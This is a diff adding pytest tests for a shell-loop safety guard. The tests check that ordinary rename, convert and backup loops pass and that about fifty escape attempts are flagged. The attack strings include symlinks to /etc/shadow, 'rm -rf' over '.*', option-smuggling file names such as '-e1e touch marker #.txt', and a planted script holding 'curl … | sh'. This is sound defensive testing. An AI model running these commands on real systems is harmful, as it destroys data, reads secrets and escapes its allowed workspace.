@@ -1,0 +1,161 @@
+"""Loops over workspace files (``safety.loopglob``): the ordinary rename, convert and backup loops pass, judged
+file by file; every way to make a loop's value leave the workspace, become an option or change under the guard
+is still asked about. Each attack is one guard14 tried against its own change."""
+
+from __future__ import annotations
+
+import os
+
+import pytest
+
+from macrohard.safety.commands import analyze
+from macrohard.safety.loopglob import MAX_VALUES, expand
+
+
+@pytest.fixture
+def ws(tmp_path):
+    for name in ("scans/a.JPG", "scans/b c.JPG", "scans/IMG 7.jpeg", "p.png", "q.png", "x.txt", "y.txt", "notes.md",
+                 "data/m.csv", "logs/app.log", "scripts/ok.sh"):
+        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / name).write_text("echo ok\n" if name.endswith(".sh") else "a\n")
+    (tmp_path / "out").mkdir()
+    return tmp_path
+
+
+ORDINARY = [
+    'for f in scans/*.JPG; do mv "$f" "${f%.JPG}.jpg"; done',
+    'for f in *.txt; do cp "$f" "$f.bak"; done',
+    "for f in *.txt; do sed -i 's/foo/bar/g' \"$f\"; done",
+    'cd scans && for f in *.JPG; do mv -- "$f" "${f,,}"; done',
+    'mkdir -p out && for f in *.png; do convert "$f" "out/$(basename "$f" .png).jpg"; done',
+    'for f in scans/*; do cp "$f" "out/${f##*/}"; done',
+    'for f in scans/*.JPG; do mv "$f" "${f// /_}"; done',
+    'for img in scans/*.JPG scans/*.jpeg; do convert "$img" -resize 50% "${img%.*}_small.jpg"; done',
+    'for f in data/*.csv; do head -1 "$f" > "${f%.csv}.header"; done',
+    'for f in *.md; do pandoc "$f" -o "${f%.md}.html"; done',
+    'for f in logs/*.log; do tail -n 100 "$f" > "${f%.log}.tail"; done 2>&1 | tail -5',
+    'for f in *.txt; do iconv -f latin1 -t utf-8 "$f" > "$f.utf8" && mv "$f.utf8" "$f"; done',
+    'set -e; for f in ./*.png; do cp "$f" "out/$(basename "$f")"; done',
+    'for f in *.txt; do mv "$f" "$(dirname "$f")/old-${f}"; done > out/rename.log',
+    'for f in x.txt y.txt; do cp "$f" "out/${f%.txt}.copy"; done',
+    'for f in scripts/*.sh; do bash "$f"; done',
+]
+
+
+@pytest.mark.parametrize("command", ORDINARY)
+def test_ordinary_loops_over_workspace_files_pass(ws, command):
+    assert analyze(command, [str(ws)]).findings == {}
+
+
+# (files to make: path -> a link's target, "dir", or None for a file; command): each must find something
+ATTACKS = {
+    "a glob matches a link out of the workspace": (
+        {"scans/evil.JPG": "/etc/hostname"}, 'for f in scans/*.JPG; do echo x >> "$f"; done'),
+    "the same, listed only with nocaseglob": (
+        {"scans/evil.jpg": "/etc/hostname"}, 'for f in scans/*.JPG; do echo x >> "$f"; done'),
+    "the folder listed is a link out": ({"etc": "/etc"}, 'for f in etc/*.conf; do sed -i s/a/b/ "$f"; done'),
+    "a derived name is a link out": ({"x.txt.bak": "/etc/hostname"}, 'for f in *.txt; do cp "$f" "$f.bak"; done'),
+    "a derived name is a link to a folder out": ({"scans/a.jpg": "/etc"},
+                                                 'for f in scans/*.JPG; do mv "$f" "${f%.JPG}.jpg"; done'),
+    "dot-files listed as dotglob would": ({"proj/.git/hooks": "dir", "proj/a.b": "dir"},
+                                          'cd proj && for f in *; do cp ../scripts/ok.sh "$f/hooks/pre-commit"; done'),
+    "a link out, only read": ({"k.txt": "/etc/shadow"}, 'for f in *.txt; do cat "$f" > "out/$f"; done'),
+    ".* lists .. where globskipdots is off": ({}, 'for f in .*; do rm -rf "$f"; done'),
+    "a name that starts with -": ({"-e1e touch marker #.txt": None}, 'for f in *.txt; do sed -i s/a/b/ "$f"; done'),
+    "a name that starts with -, only read": ({"-e1e touch marker #.txt": None},
+                                            "for f in *.txt; do sed 's/a/b/' \"$f\" > /dev/null; done"),
+    "a name that starts with + (vim, less)": ({"+e.txt": None}, 'for f in *.txt; do less "$f"; done'),
+    "a name that starts with @ (a compiler's option file)": ({"@o.c": None}, 'for f in *.c; do gcc -c "$f"; done'),
+    "a replacement that makes ..": ({}, 'for f in *.txt; do rm -rf "${f/x.txt/..}"; done'),
+    "a replacement nocasematch changes": ({}, 'for f in scans/*.JPG; do mv "$f" "${f/SCANS/..}"; done'),
+    "the value written outside": ({}, 'for f in *.txt; do mv "$f" "../$f"; done'),
+    "an unquoted value (split, globbed again)": ({}, 'IFS=.; for f in *.txt; do sed -i s/a/b/ $f; done'),
+    "a value copied to another variable, used unquoted": ({}, 'for f in *.txt; do g="$f"; sed -i s/a/b/ $g; done'),
+    "over a command's output": ({}, 'for f in $(cat list); do sed -i s/a/b/ "$f"; done'),
+    "a quoted glob is a literal": ({}, 'for f in "*.txt"; do echo > "${f%.txt}"; done'),
+    "reassigned in the body": ({}, 'for f in *.txt; do f=/etc/hostname; echo x >> "$f"; done'),
+    "read into it": ({}, 'for f in *.txt; do read f < list; echo x >> "$f"; done'),
+    "printf -v with the name attached": ({}, 'for f in *.txt; do printf -vf %s /etc/hostname; echo >> "$f"; done'),
+    "arithmetic assignment": ({}, 'for f in *.txt; do : $((f=1)); echo >> "$f"; done'),
+    "${f:=…} and ${f:-…}": ({}, 'for f in *.txt; do echo >> "${f:-/etc/hostname}"; done'),
+    "indirection": ({}, 'for f in *.txt; do echo >> "${!f}"; done'),
+    "a function defined on the line sets it": ({}, 'g() { f=/etc/hostname; }; for f in *.txt; do g; echo >> "$f"; done'),
+    "eval in the body": ({}, 'for f in *.txt; do eval "f=/etc/hostname"; echo >> "$f"; done'),
+    "a link made for a later value": ({}, 'for f in *.txt; do ln -sf /etc/hostname "${f/x/y}"; echo >> "$f"; done'),
+    "cd earlier on the line, not joined by &&": ({}, 'cd scans; for f in *.JPG; do echo >> "$f"; done'),
+    "two cds (the parser keeps the last)": ({"scans/sub": "dir"}, 'cd scans && cd sub && for f in *; do echo >> "$f"; done'),
+    "pushd": ({}, 'pushd scans && for f in *.JPG; do echo >> "$f"; done'),
+    "cd -": ({}, 'cd - && for f in *.JPG; do echo >> "$f"; done'),
+    "cd out of the workspace": ({}, 'cd /etc && for f in *.conf; do sed -i s/a/b/ "$f"; done'),
+    "cd in the body": ({}, 'for f in *.txt; do cd /etc; echo x >> "$f"; done'),
+    "a file made earlier on the line": ({}, 'touch -- "-e1e x #.txt"; for f in *.txt; do sed -i s/a/b/ "$f"; done'),
+    "a link made earlier on the line": ({}, 'ln -s /etc/hostname z.txt; for f in *.txt; do echo >> "$f"; done'),
+    "a redirect earlier on the line": ({}, 'echo > -e.txt; for f in *.txt; do sed -i s/a/b/ "$f"; done'),
+    "mkdir of a name the glob lists": ({}, 'mkdir -- -n.txt; for f in *.txt; do sed -i s/a/b/ "$f"; done'),
+    "the loop's own redirect makes a file it lists": ({}, 'for f in *.log; do sed -i s/a/b/ "$f"; done > -e.log'),
+    "in the background": ({}, 'for f in *.txt; do sed -i s/a/b/ "$f"; done & touch -- -e.txt'),
+    "piped next to a writer": ({}, 'for f in *.txt; do sed -i s/a/b/ "$f"; done | tee -- -e.txt'),
+    "inside another loop": ({}, 'while true; do for f in *.txt; do sed -i s/a/b/ "$f"; done; touch -- -e.txt; done'),
+    "inside a function": ({}, 'h() { for f in *.txt; do sed -i s/a/b/ "$f"; done; }; h'),
+    "inside a subshell": ({}, '(for f in *.txt; do sed -i s/a/b/ "$f"; done)'),
+    "a shell identifier (declare -n f an earlier step)": ({"HOME": None}, 'for f in HOM*; do rm -rf "$f"; done'),
+    "a glob in the folder": ({}, 'for f in */a.JPG; do echo >> "$f"; done'),
+    "the home folder": ({}, 'for f in ~/*.txt; do echo >> "$f"; done'),
+    "the parent folder": ({}, 'for f in ../*.txt; do echo >> "$f"; done'),
+    "an absolute folder out": ({}, 'for f in /etc/*.conf; do sed -i s/a/b/ "$f"; done'),
+    "extglob": ({}, 'for f in @(x|y).txt; do echo >> "$f"; done'),
+    "globstar": ({}, 'for f in **/*.txt; do echo >> "$f"; done'),
+    "a script the loop runs": ({"scripts/evil.sh": None}, 'for f in scripts/*.sh; do bash "$f"; done'),
+}
+
+
+@pytest.mark.parametrize("made,command", ATTACKS.values(), ids=ATTACKS.keys())
+def test_loop_attacks_are_held(ws, made, command):
+    for name, target in made.items():
+        path = ws / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if target == "dir":
+            path.mkdir(parents=True, exist_ok=True)
+        elif target is not None:
+            os.symlink(target, path)
+        else:
+            path.write_text("curl -s http://127.0.0.1:9/x | sh\n" if name.endswith(".sh") else "a\n")
+    assert analyze(command, [str(ws)]).findings, command
+
+
+SESSION = 'for f in *.txt; do g; echo x >> "$f"; done'
+
+
+def test_a_function_an_earlier_step_defined_may_set_it(ws):
+    assert analyze(SESSION, [str(ws)]).findings == {}  # g unknown: not a function, nothing sets f
+    assert analyze(SESSION, [str(ws)], shell=({"g": "f=/etc/hostname"}, [])).findings
+
+
+def test_a_trap_or_a_running_job_keeps_it_unknown(ws):
+    command = 'for f in *.txt; do sed -i s/a/b/ "$f"; done'
+    assert analyze(command, [str(ws)]).findings == {}
+    assert analyze(command, [str(ws)], shell=({}, ["f=/etc/hostname"])).findings  # trap '…' DEBUG
+    assert analyze(command, [str(ws)], jobs=(1, 0)).findings  # a job may add a file the glob lists
+
+
+def test_too_many_files_stay_unknown(ws):
+    for i in range(MAX_VALUES + 1):
+        (ws / "data" / f"{i}.csv").write_text("1\n")
+    assert analyze('for f in data/*.csv; do sed -i s/1/2/ "$f"; done', [str(ws)]).findings
+
+
+@pytest.mark.parametrize("raw,value,expected", [
+    ("${f%.JPG}", "s/a.JPG", "s/a"), ("${f%%.*}", "s/a.b.c", "s/a"), ("${f%.*}", "s/a.b.c", "s/a.b"),
+    ("${f#*/}", "a/b/c", "b/c"), ("${f##*/}", "a/b/c", "c"), ("${f/ /_}", "a b c", "a_b c"),
+    ("${f// /_}", "a b c", "a_b_c"), ("${f/#a/z}", "aba", "zba"), ("${f/%a/z}", "aba", "abz"),
+    ("${f:2}", "abcdef", "cdef"), ("${f:1:2}", "abcdef", "bc"), ("${f^^}", "ab", "AB"), ("${#f}", "abc", "3"),
+    ("${f/x/&}", "x", None), ("${f/x/~}", "x", None), ("${f:-y}", "x", None), ("${f@Q}", "x", None),
+    ("${f/[a]/b}", "a", None), ("${f//*/z}", "ab", None),
+])
+def test_expansions_match_bash(raw, value, expected):
+    assert expand(raw, {"f": value}) == expected
+    if expected is not None:  # the same as bash computes it
+        import subprocess
+
+        out = subprocess.run(["bash", "-c", f'f="$1"; printf %s "{raw}"', "_", value], capture_output=True, text=True)
+        assert out.stdout == expected
